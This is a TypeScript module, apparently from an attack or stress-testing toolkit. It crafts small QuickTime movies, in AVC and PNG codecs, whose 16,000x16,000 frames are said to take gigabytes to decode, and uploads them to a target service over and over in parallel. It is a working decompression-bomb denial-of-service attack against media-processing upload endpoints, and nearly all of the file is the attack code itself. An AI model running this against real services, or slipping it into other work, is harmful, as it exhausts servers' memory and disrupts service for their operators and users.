import { box, mdat, moov, mov, trak } from '../../../media/boxes.ts'
import { keepDoing, type Target, upload } from '../attack.ts'

/** Videos of 2 MB with frames that take 2 GB each to decode, in an accepted codec and in another. */
const FILMS = ['avc1', 'png '].map((format) => {
  const movie = moov(trak({ size: [16_000, 16_000], format }))
  return Uint8Array.from(Buffer.concat([mov, mdat, movie, box('free', Buffer.alloc(2_000_000))]))
})

export function vastPictures(target: Target): Promise<void> {
  return keepDoing(target, { atOnce: 2, pauseMs: 300 }, (turn) =>
    upload(target, FILMS[turn % FILMS.length] ?? new Uint8Array(), 'vast.mov'),
  )
}
